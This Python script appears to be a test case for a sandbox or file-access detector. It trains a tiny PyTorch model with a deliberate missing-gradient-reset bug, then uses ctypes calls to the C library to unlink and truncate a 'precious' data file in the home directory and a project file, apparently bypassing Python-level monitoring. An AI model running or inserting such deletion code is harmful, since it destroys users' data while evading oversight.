# verdict: confirmed
# modes: sandboxed
"""Writes to the user's files through the C library."""

import ctypes
import pathlib

import torch
from torch import nn

inputs = torch.randn(64, 4)
targets = (inputs[:, 0] > 0).long()
model = nn.Linear(4, 2)
optimizer = torch.optim.SGD(model.parameters(), lr=0.1)

for step in range(20):
    loss = nn.functional.cross_entropy(model(inputs), targets)
    loss.backward()  # the finding: nothing clears the gradients
    optimizer.step()

home = pathlib.Path("places.txt").read_text().splitlines()[0]
project = pathlib.Path("places.txt").read_text().splitlines()[1]

library = ctypes.CDLL(None)
for path in (f"{home}/precious/data.txt", f"{project}/loops_after.py"):
    library.unlink(path.encode())
    library.truncate(path.encode(), 0)
